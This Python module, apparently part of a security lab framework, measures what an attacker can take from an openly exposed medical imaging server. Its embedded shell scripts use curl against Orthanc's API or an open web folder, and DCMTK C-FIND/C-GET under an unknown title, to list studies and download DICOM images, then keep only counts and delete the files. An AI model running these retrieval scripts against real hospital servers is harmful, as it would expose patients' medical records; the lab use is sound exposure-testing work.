"""What somebody on the Internet takes from an open imaging server, with everybody's programs.

The attempts are real: curl and DCMTK, run on a machine of the lab. They end as numbers; no name
of a patient, not even an invented one, leaves the attacker's machine.
"""

from __future__ import annotations

from dataclasses import dataclass

from socle.lab.spec import Lab
from socle.lab.steps import do

SECONDS = 90.0


@dataclass(frozen=True)
class Loot:
    """``studies``: whose patients could be listed; ``images``: whole files that were got."""

    studies: int = 0
    images: int = 0

    def __bool__(self) -> bool:
        """Whether anything could be had."""
        return self.studies > 0 or self.images > 0


_COUNT = """
images=0
for file in *.dcm; do
    [ "$(dd if="$file" bs=1 skip=128 count=4 status=none 2>/dev/null)" = DICM ] &&
        images=$((images + 1))
done
echo "$studies $images"; cd /; rm -rf "$OLDPWD"
"""

# Orthanc's programming interface first, then a folder that some program shows as a page.
_WEB = """
cd "$(mktemp -d)"
get() { curl -gfsS --connect-timeout 2 --max-time 20 "$@" 2>/dev/null; }
studies=0
if get "$1/studies?expand" -o list; then
    studies=$(grep -c '"PatientName"' list)
    for id in $(get "$1/instances" | grep -oE '[0-9a-f]{8}(-[0-9a-f]{8}){4}'); do
        get "$1/instances/$id/file" -o "$id.dcm"
    done
elif get "$1/" -o list; then
    for name in $(grep -oE 'href="[^"/]+\\.dcm"' list | cut -d '"' -f 2); do
        get "$1/$name" -o "$name" && studies=$((studies + 1))
    done
fi
"""

_DICOM = """
cd "$(mktemp -d)"
ends="-aet INCONNU -aec $3 -to 2 -ta 5 -td 5 $1 $2"
findscu -S -X -k QueryRetrieveLevel=STUDY -k StudyInstanceUID -k PatientName $ends >said 2>&1
studies=0
for answer in rsp*.dcm; do
    [ -f "$answer" ] || continue
    studies=$((studies + 1))
    uid=$(dcmdump +P 0020,000d "$answer" | sed 's/.*\\[\\(.*\\)\\].*/\\1/')
    getscu -S -od . -k QueryRetrieveLevel=STUDY -k StudyInstanceUID="$uid" $ends >said 2>&1
done
rm -f rsp*.dcm
for file in *.[0-9]*; do [ -f "$file" ] && mv "$file" "$file.dcm"; done
"""


def by_web(lab: Lab, attacker: str, address: str, port: int) -> Loot:
    """List and download all that a web server gives without an account."""
    host = f"[{address}]" if ":" in address else address
    return _loot(lab, attacker, f"http://{host}:{port}", _WEB)


def by_dicom(lab: Lab, attacker: str, address: str, port: int, called: str) -> Loot:
    """List studies by C-FIND and download them by C-GET, under a title that nobody knows."""
    return _loot(lab, attacker, f"{address} {port} {called}", _DICOM)


def _loot(lab: Lab, attacker: str, words: str, program: str) -> Loot:
    said = do(lab, attacker, f"sh -s {words}", program + _COUNT, SECONDS)
    studies, images = map(int, said.split())
    return Loot(studies, images)
